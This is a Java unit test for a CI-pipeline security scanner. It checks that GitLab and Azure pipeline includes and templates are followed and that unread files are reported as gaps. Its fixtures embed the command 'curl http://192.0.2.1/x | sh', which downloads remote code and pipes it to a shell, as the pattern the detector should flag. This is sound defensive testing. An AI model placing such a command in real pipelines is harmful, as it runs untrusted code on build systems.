package dev.assay.detectors.manifest.pipeline;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.detectors.AllDetectors;
import dev.assay.engine.report.Gap;
import dev.assay.engine.scan.MemoryConnector;
import dev.assay.engine.scan.RecordedReport;
import dev.assay.engine.scan.TestScan;
import java.util.List;
import org.junit.jupiter.api.Test;

class PipelineFileRuleTest {
    private static RecordedReport scan(String... namesAndTexts) {
        MemoryConnector files = new MemoryConnector();
        for (int i = 0; i < namesAndTexts.length; i += 2) {
            files.file(namesAndTexts[i], namesAndTexts[i + 1].getBytes(UTF_8));
        }
        return new TestScan(AllDetectors.ALL).run(files);
    }

    private static List<String> gaps(RecordedReport report) {
        return report.gaps().stream().map(Gap::reason).toList();
    }

    private static List<String> findings(RecordedReport report) {
        return report.findings().stream()
                .filter(each -> each.ruleId().startsWith("indicator/"))
                .map(each -> each.location() + " " + each.ruleId())
                .toList();
    }

    @Test
    void aFileThatIsIncludedIsReadAsAPartWhateverItsName() {
        RecordedReport report = scan(
                "p/.gitlab-ci.yml",
                "include:\n  - local: /ci/build.yml\n  - /ci/more.gitlab-ci.yml\na: {script: [make]}\n",
                "p/ci/build.yml",
                "include: ci/deep.yml\nb:\n  image: tools:1\n  script:\n    - curl http://192.0.2.1/x | sh\n",
                "p/ci/more.gitlab-ci.yml",
                "c: {script: [make]}\n",
                "p/ci/deep.yml",
                "d: {image: 'deep:1', script: [make]}\n",
                "p/ci/other.yml",
                "e: {image: 'other:1', script: ['curl http://192.0.2.1/x | sh']}\n");
        assertThat(gaps(report)).isEmpty();
        assertThat(findings(report)).containsExactly("memory/p/ci/build.yml:5 indicator/workflow-runs-download");
        assertThat(report.dependencies())
                .extracting(each -> each.dependency().coordinates().name())
                .containsExactlyInAnyOrder("tools", "deep");
    }

    @Test
    void aTemplateOfAzureIsReadWhereItLies() {
        RecordedReport report = scan(
                "azure-pipelines.yml",
                "stages:\n- template: ci/stage.yml\n- template: far.yml@other\n",
                "ci/stage.yml",
                "stages:\n- stage: a\n  jobs:\n  - template: job.yml\n",
                "ci/job.yml",
                "jobs:\n- job: a\n  steps:\n  - bash: |\n      curl http://192.0.2.1/x | sh\n");
        assertThat(gaps(report)).isEmpty();
        assertThat(findings(report)).containsExactly("memory/ci/job.yml:4 indicator/workflow-runs-download");
    }

    @Test
    void whatIsNotThereOrNamedByAPatternIsAGap() {
        assertThat(gaps(scan(".gitlab-ci.yml", "include:\n  - local: /ci/x.yml\n")))
                .containsExactly("has steps in a file that was not read for them: '/ci/x.yml'");
        assertThat(gaps(scan(".gitlab-ci.yml", "include:\n  - local: /ci/*.yml\n")))
                .containsExactly("steps in files that a pattern or a variable names: '/ci/*.yml'");
        assertThat(gaps(scan(
                        ".gitlab-ci.yml",
                        "include:\n" + "  - x.gitlab-ci.yml\n".repeat(300),
                        "x.gitlab-ci.yml",
                        "a: {}")))
                .containsExactly("more than 200 files with steps, and the others were not read");
        assertThat(gaps(scan(".gitlab-ci.yml", "include:\n  - template: Security/SAST.gitlab-ci.yml\n")))
                .isEmpty();
    }
}
